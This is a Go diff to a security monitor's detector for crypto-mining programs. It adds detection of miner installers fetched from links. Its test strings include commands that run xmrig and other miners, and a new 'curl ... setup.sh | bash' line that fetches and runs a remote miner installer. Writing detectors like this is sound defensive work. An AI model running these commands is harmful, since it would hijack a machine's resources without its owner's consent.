@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"slices"
 	"strings"
 
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
@@ -13,13 +14,20 @@ var minerName = Detector{
 	Title:  "known mining program",
 	Why:    "a program of a known mining family is run",
 	Detect: onCommands(minerRun),
-	Fire:   lines(coi.High, "./xmrig --config=c.json", "nohup /opt/cpuminer/minerd &", "sudo ~/xmrig/build/xmrig", "docker run -d metal3d/xmrig", "/tmp/kdevtmpfsi", "lolMiner --algo X"),
+	Fire:   lines(coi.High, "./xmrig --config=c.json", "nohup /opt/cpuminer/minerd &", "sudo ~/xmrig/build/xmrig", "docker run -d metal3d/xmrig", "/tmp/kdevtmpfsi", "lolMiner --algo X", "curl -sL https://example.com/x/xmrig_setup/master/setup.sh | bash -s 4A"),
 	Quiet:  lines("", "git clone https://example.com/xmrig.git", "cd xmrig && cmake .. && make", "ls xmrig", "rm -rf /tmp/kdevtmpfsi", "pkill xmrig", "apt-cache show cpuminer", "tar xf xmrig-6.tar.gz"),
 }
 
 func minerRun(s *command.Simple, _ track.View) *Finding {
 	if minerFamily(s.Prog) {
 		return say(s, coi.High, "mining program "+base(s.Prog))
+	}
+	if d := fetched(s); d != nil {
+		for _, a := range d.Argv[1:] {
+			if strings.Contains(a, "://") && minerLink(a) {
+				return say(s, coi.High, "installer of a mining program run")
+			}
+		}
 	}
 	if s.Name == "docker" && s.Arg("run", "create") {
 		for _, a := range s.Argv[2:] {
@@ -30,6 +38,13 @@ func minerRun(s *command.Simple, _ track.View) *Finding {
 		}
 	}
 	return nil
+}
+
+// minerLink reports links with the name of a mining program in their path.
+func minerLink(link string) bool {
+	return slices.ContainsFunc(strings.FieldsFunc(strings.ToLower(link), func(r rune) bool { return strings.ContainsRune("/_.-?=", r) }), func(w string) bool {
+		return len(w) > 4 && oneOf(w, miners...)
+	})
 }
 
 func minerFamily(name string) bool {
